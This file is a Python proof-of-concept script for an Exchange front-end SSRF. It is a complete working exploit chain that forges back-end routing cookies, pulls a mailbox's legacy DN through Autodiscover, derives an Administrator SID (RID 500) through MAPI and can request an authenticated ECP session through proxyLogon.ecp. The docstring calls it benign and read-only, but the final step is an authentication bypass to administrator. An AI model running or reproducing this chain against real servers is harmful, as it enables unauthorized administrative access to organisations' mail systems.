#!/usr/bin/env python3
"""Proof of concept for EMB-2021-0001 (embargoed, benign).

Walks the request chain of the Exchange front-end SSRF against a test
server: discovers the back end, reads the user's legacy DN through
Autodiscover, maps it to a SID and asks the ECP for a session.  Nothing is
written on the server; every step only reads.
"""
import argparse
import json
import re
import ssl
import sys
import urllib.error
import urllib.request

USER_AGENT = "Mozilla/5.0 (compatible; emb-check/1.0)"
BACKEND_COOKIE = "X-AnonResource-Backend"
BERESOURCE_COOKIE = "X-BEResource"
AUTODISCOVER_PATH = "/autodiscover/autodiscover.xml"
MAPI_PATH = "/mapi/emsmdb"
ECP_PROXY_PATH = "/ecp/proxyLogon.ecp"
PROBE_PATH = "/ecp/y.js"
DEFAULT_TIMEOUT = 15
LEGACY_DN_RE = re.compile(r"<LegacyDN>(.*?)</LegacyDN>")
SID_RE = re.compile(r"with SID ([S\-0-9]+) ")

AUTODISCOVER_BODY = """<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">
    <Request>
      <EMailAddress>{email}</EMailAddress>
      <AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>
    </Request>
</Autodiscover>"""


class ChainError(Exception):
    """A step of the chain did not answer as an unpatched server would."""


def make_context(verify):
    ctx = ssl.create_default_context()
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx


def send(target, path, cookie, body=None, headers=None, ctx=None,
         timeout=DEFAULT_TIMEOUT):
    url = "https://%s%s" % (target, path)
    all_headers = {"User-Agent": USER_AGENT, "Cookie": cookie}
    if headers:
        all_headers.update(headers)
    data = body.encode("utf-8") if body is not None else None
    method = "POST" if data is not None else "GET"
    request = urllib.request.Request(url, data=data, headers=all_headers,
                                     method=method)
    try:
        with urllib.request.urlopen(request, timeout=timeout,
                                    context=ctx) as resp:
            return resp.status, dict(resp.headers), resp.read().decode(
                "utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read().decode(
            "utf-8", "replace")


def find_backend(target, ctx):
    status, headers, _ = send(target, PROBE_PATH,
                              "%s=localhost/ecp/default.flt?~3" %
                              BACKEND_COOKIE, ctx=ctx)
    server = headers.get("X-FEServer") or headers.get("X-CalculatedBETarget")
    if status not in (200, 500) or not server:
        raise ChainError("no back end name in the probe answer (%d)" % status)
    return server.split(".")[0]


def legacy_dn(target, backend, email, ctx):
    cookie = "%s=%s/autodiscover/autodiscover.xml?a=~1942062522;" % (
        BERESOURCE_COOKIE, backend)
    body = AUTODISCOVER_BODY.format(email=email)
    status, _, text = send(target, AUTODISCOVER_PATH, cookie, body,
                           {"Content-Type": "text/xml"}, ctx)
    match = LEGACY_DN_RE.search(text)
    if status != 200 or match is None:
        raise ChainError("autodiscover gave no legacy DN (%d)" % status)
    return match.group(1)


def user_sid(target, backend, dn, ctx):
    cookie = "%s=Administrator@%s:444/mapi/emsmdb?MailboxId=x&a=~1942062522;" % (
        BERESOURCE_COOKIE, backend)
    body = dn + "\x00\x00\x00\x00\x00\xe4\x04\x00\x00\x09\x04\x00\x00\x09\x04\x00\x00\x00\x00\x00\x00"
    headers = {
        "X-Requesttype": "Connect",
        "X-Clientinfo": "{2F94A2BF-A2E6-4CCCC-BF98-B5F22C542226}",
        "X-Clientapplication": "Outlook/15.0.4815.1002",
        "X-Requestid": "{C715155F-2BE8-44E0-BD34-2960067874C8}:2",
        "Content-Type": "application/mapi-http",
    }
    status, _, text = send(target, MAPI_PATH, cookie, body, headers, ctx)
    match = SID_RE.search(text)
    if match is None:
        raise ChainError("mapi gave no SID (%d)" % status)
    sid = match.group(1)
    if not sid.endswith("-500"):
        sid = sid.rsplit("-", 1)[0] + "-500"
    return sid


def ecp_session(target, backend, sid, ctx):
    cookie = "%s=Administrator@%s:444/ecp/proxyLogon.ecp?a=~1942062522;" % (
        BERESOURCE_COOKIE, backend)
    body = '<r at="Negotiate" ln="john"><s>%s</s></r>' % sid
    status, headers, _ = send(target, ECP_PROXY_PATH, cookie, body,
                              {"msExchLogonMailbox": "S-1-5-20"}, ctx)
    session = headers.get("Set-Cookie", "")
    if status != 241 or "ASP.NET_SessionId" not in session:
        raise ChainError("ECP refused the proxy logon (%d)" % status)
    return session


def run(args):
    ctx = make_context(args.verify)
    report = {"target": args.target, "steps": []}
    backend = find_backend(args.target, ctx)
    report["steps"].append({"backend": backend})
    dn = legacy_dn(args.target, backend, args.email, ctx)
    report["steps"].append({"legacy_dn": dn})
    sid = user_sid(args.target, backend, dn, ctx)
    report["steps"].append({"sid": sid})
    if args.session:
        session = ecp_session(args.target, backend, sid, ctx)
        report["steps"].append({"session": session[:32]})
    report["vulnerable"] = True
    return report


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", help="host name of the test server")
    parser.add_argument("email", help="a mailbox on the test server")
    parser.add_argument("--session", action="store_true",
                        help="also ask the ECP for a session")
    parser.add_argument("--verify", action="store_true",
                        help="verify the server certificate")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    try:
        report = run(args)
    except (ChainError, OSError) as exc:
        print("not vulnerable: %s" % exc, file=sys.stderr)
        return 1
    if args.json:
        print(json.dumps(report, indent=2))
    else:
        for step in report["steps"]:
            for key, value in step.items():
                print("%-10s %s" % (key, value))
        print("VULNERABLE")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
